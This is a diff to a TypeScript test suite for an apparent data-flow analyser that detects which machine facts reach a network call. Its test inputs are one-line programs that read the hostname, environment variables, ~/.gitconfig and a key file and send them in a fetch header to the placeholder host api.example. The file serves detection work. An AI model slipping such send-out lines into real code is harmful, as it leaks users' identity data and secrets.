@@ -6,12 +6,12 @@ const send = (value: string): string =>
   `fetch("https://api.example/", { headers: { "x-a": ${value} } });`;
 
 describe("what is read", () => {
-  const reading: readonly (readonly [factor: string, program: string])[] = [
+  const reading: readonly (readonly [factor: string, program: string, besides?: string])[] = [
     [
       "timezone",
       `const o = new Intl.DateTimeFormat("en").resolvedOptions(); ${send("o.timeZone")}`,
     ],
-    ["timezone", send("new Date().getTimezoneOffset()")],
+    ["timezone", send("new Date().getTimezoneOffset()"), "clock"],
     ["timezone", send("process.env.TZ")],
     ["locale", send("process.env.LC_ALL")],
     ["hostname", `const os = require("os"); ${send("os.hostname()")}`],
@@ -45,6 +45,7 @@ describe("what is read", () => {
     [
       "git-identity",
       `import fs from "fs"; import os from "os"; import path from "path"; ${send('fs.readFileSync(path.join(os.homedir(), ".gitconfig"))')}`,
+      "home",
     ],
     [
       "git-identity",
@@ -60,6 +61,7 @@ describe("what is read", () => {
     [
       "file:~/.config/other/key",
       `import fs from "fs"; import os from "os"; ${send("fs.readFileSync(`${os.homedir()}/.config/other/key`)")}`,
+      "home",
     ],
     [
       "launch",
@@ -67,13 +69,11 @@ describe("what is read", () => {
     ],
     ["clock", send("Date.now()")],
   ];
-  for (const [factor, program] of reading)
+  for (const [factor, program, ...besides] of reading)
     test(`${factor}: ${program.slice(0, 60)}`, () => {
       const found = flowsIn(program).filter(({ sink }) => sink.name === "x-a");
-      assert.deepEqual(
-        [...new Set(found.map(({ source }) => source.factor))].includes(factor),
-        true,
-      );
+      const factors = new Set(found.map(({ source }) => source.factor));
+      assert.deepEqual([...factors].toSorted(), [factor, ...besides].toSorted());
     });
 
   test("a variable that is set is not read", () => {
